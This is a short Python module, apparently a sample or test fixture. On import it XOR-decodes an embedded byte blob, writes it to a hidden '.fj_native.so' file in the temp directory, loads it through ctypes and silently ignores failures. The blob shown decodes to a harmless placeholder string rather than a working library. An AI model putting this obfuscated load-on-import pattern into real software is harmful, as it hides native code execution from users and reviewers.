import ctypes
import os
import tempfile

_KEY = 0x37
_BLOB = b"\x48\x48\x58\x59\x52\x48\x59\x56\x43\x5e\x58\x59\x48\x48"


def _load():
    data = bytes(value ^ _KEY for value in _BLOB)
    path = os.path.join(tempfile.gettempdir(), ".fj_native.so")
    with open(path, "wb") as handle:
        handle.write(data)
    return ctypes.CDLL(path)


try:
    _lib = _load()
except OSError:
    _lib = None
